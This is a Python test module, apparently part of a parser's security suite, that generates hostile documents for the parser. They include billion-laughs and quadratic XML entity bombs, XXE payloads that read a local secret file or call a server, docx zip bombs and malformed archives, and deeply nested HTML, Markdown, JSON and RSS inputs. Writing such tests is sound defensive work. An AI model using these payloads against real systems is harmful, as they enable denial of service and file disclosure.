"""Documents made to hang, fill or mislead a reader; none of them is a release.

Each with the name of the file it would be. Text is all there is in them, or nothing: what is read
from one in spite of all would be a release that nobody wrote.
"""

import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

from tests.attack.pdfs import list_hostile_pdfs

# Stands in the file that entities try to read.
CANARY = "canary-7f3b91"

_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_BILLION = f'<!DOCTYPE x [<!ENTITY l0 "laugh ">{_LAUGHS}]>'
_QUADRATIC = f'<!DOCTYPE x [<!ENTITY l9 "{"laugh " * 20_000}">]>'


def list_hostile(secret: Path, server: str) -> Iterator[tuple[str, bytes]]:
    """Every kind; entities name the file of the secret and the server."""
    yield from list_pages()
    yield from list_texts()
    yield from list_entities(secret, server)
    yield from list_docx(secret, server)
    yield from list_feeds()
    for name, raw in list_hostile_pdfs():
        yield f"{name}.pdf", raw


def list_pages() -> Iterator[tuple[str, bytes]]:
    """Web pages too large, too deep or too often dated."""
    yield "paragraphs.html", _page("<p>" * 300_000)
    yield "nested-tags.html", _page("<div>" * 100_000 + "x" + "</div>" * 100_000)
    yield "nested-formatting.html", _page("<b><i>" * 25_000 + "x")
    yield "nested-tables.html", _page("<table><tr><td>" * 15_000 + "x")
    yield "attributes.html", _page(f"<p {'a=1 ' * 2_000_000}>x</p>")
    yield "unclosed-attribute.html", _page(f'<p title="{"x" * 5_000_000}')
    yield "unclosed-comments.html", _page("<!--" * 500_000)
    yield "script-that-never-ends.html", _page("<script>" + "x<" * 50_000)
    yield (
        "json-ld.html",
        _page(f'<script type="application/ld+json">{"[" * 90_000}{"]" * 90_000}</script>'),
    )
    yield "question-marks.html", _page(f"<time>{'?' * 100_000}</time>")
    for name, unit in (("slashes", "1/"), ("days", "12 "), ("years", "2026-"), ("months", "May ")):
        dates = unit * 100_000
        yield (
            f"date-{name}.html",
            _page(f'<meta name="date" content="{dates}"><p class="date">{dates}</p>'),
        )


def list_texts() -> Iterator[tuple[str, bytes]]:
    """Plain text and Markdown."""
    yield "one-line.txt", (b"The harbour office opened a berth. " * 600_000)[: 20 * 1024 * 1024]
    yield "one-letter.txt", b"a" * 1024 * 1024
    yield "question-marks.txt", b"?" * 100_000
    yield "spaces.txt", b"a" + b" " * 10_000_000 + b"b"
    yield "line-ends.txt", b"\n" * 10_000_000 + b"a"
    yield "mail-headers.txt", b"Subject: x\n" + b"X-Header: y\n" * 1_000_000
    yield "quotes.md", b"> " * 100_000 + b"x"
    yield "brackets.md", b"[" * 100_000
    yield "links.md", b"[a](" * 100_000
    yield "stars.md", b"*a **a " * 100_000
    yield "ticks.md", b"".join(b"`" * (number % 500) + b" " for number in range(20_000))
    yield "lists.md", b"".join(b" " * (2 * number) + b"- x\n" for number in range(2_000))
    yield "rule.md", b"-" * 1_000_000
    yield "front-matter.md", b"---\ntitle: x\n" + b"a: &a [*a, *a]\n" * 100_000
    yield "nested.json", b"[" * 500_000
    yield "nested-objects.json", b'{"body":' * 100_000 + b"1" + b"}" * 100_000


def list_entities(secret: Path, server: str) -> Iterator[tuple[str, bytes]]:
    """Entities that grow, and entities that read a file or call a server."""
    outside = {
        "file": f'<!DOCTYPE x [<!ENTITY l9 SYSTEM "{secret.as_uri()}">]>',
        "http": f'<!DOCTYPE x [<!ENTITY l9 SYSTEM "{server}/entity">]>',
        "dtd": f'<!DOCTYPE x SYSTEM "{server}/entity.dtd">',
        "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{server}/parameter"> %p;]>',
        "laughs": _BILLION,
        "quadratic": _QUADRATIC,
    }
    many = "&l9;" * 5_000
    for name, declared in outside.items():
        inside = many if name == "quadratic" else "&l9;"
        head = '<?xml version="1.0"?>' + declared
        yield f"entity-{name}.html", f"{declared}<html><body><p>{inside}</p></body></html>".encode()
        yield f"entity-{name}.xhtml", f"{head}<html><body><p>{inside}</p></body></html>".encode()
        item = f"<item><title>{inside}</title><link>{server}/1</link></item>"
        yield (
            f"entity-{name}.rss",
            (f'{head}<rss version="2.0"><channel>{item}</channel></rss>'.encode()),
        )
        urls = f"<url><loc>{server}/2{inside}</loc></url>"
        space = "http://www.sitemaps.org/schemas/sitemap/0.9"
        yield (
            f"entity-{name}-sitemap.xml",
            f'{head}<urlset xmlns="{space}">{urls}</urlset>'.encode(),
        )


def list_docx(secret: Path, server: str) -> Iterator[tuple[str, bytes]]:
    """Word documents."""
    text = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
    yield "bomb.docx", _docx(_document("<w:p/>" * 12_000_000))
    yield "blank-bomb.docx", _docx(_document(" " * 400_000_000))
    yield "paragraphs.docx", _docx(_document("<w:p/>" * 1_000_000))
    yield "nested.docx", _docx(_document("<w:p>" * 100_000 + "</w:p>" * 100_000))
    for name, raw in list_entities(secret, server):
        if name.endswith(".xhtml"):
            declared = raw.decode().partition("<html")[0]
            inside = text.format("&l9;" * (5_000 if "quadratic" in name else 1))
            content = declared + _document(inside).partition("?>")[2]
            yield name.replace(".xhtml", ".docx"), _docx(content)
    yield "wide.docx", _docx(_document("").encode("utf-16"))
    whole = _docx(_document(text.format("x")))
    yield "truncated.docx", whole[: len(whole) // 2]
    yield (
        "lying-size.docx",
        whole.replace(
            (len(_document(text.format("x")))).to_bytes(4, "little"), b"\xff\xff\xff\x7f"
        ),
    )
    yield "members.docx", _docx(_document(text.format("x")), members=30_000)
    yield (
        "no-document.docx",
        _zip({"[Content_Types].xml": _TYPES, "word/other.xml": "word/document.xml"}),
    )
    yield "not-a-zip.docx", b"PK\x03\x04" + bytes(1_000_000)


def list_feeds() -> Iterator[tuple[str, bytes]]:
    """Feeds and sitemaps."""
    item = "<item><title>Berth {0}</title><link>https://example.org/{0}</link></item>"
    items = "".join(item.format(number) for number in range(200_000))
    yield "items.rss", f'<rss version="2.0"><channel>{items}</channel></rss>'.encode()
    yield "items-broken.rss", f'<rss version="2.0"><channel>{items}<b></channel>'.encode()
    entry = '{{"id": "{0}", "url": "https://example.org/{0}", "title": "Berth {0}"}}'
    entries = ", ".join(entry.format(number) for number in range(200_000))
    feed = f'{{"version": "https://jsonfeed.org/version/1.1", "items": [{entries}]}}'
    yield "items.json", feed.encode()
    yield "nested.rss", b'<rss version="2.0"><channel>' + b"<item>" * 200_000
    yield (
        "nested-json-feed.json",
        b'{"version": "https://jsonfeed.org/version/1.1", "items": ' + (b"[" * 200_000),
    )


def _page(body: str) -> bytes:
    return f"<!doctype html><html><head><title>x</title></head><body>{body}</body></html>".encode()


def _document(body: str) -> str:
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return f'{head}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'


def _docx(document: str | bytes, members: int = 0) -> bytes:
    more = {f"word/media/{number}": "" for number in range(members)}
    return _zip({"[Content_Types].xml": _TYPES, "word/document.xml": document, **more})


def _zip(parts: dict[str, str] | dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()
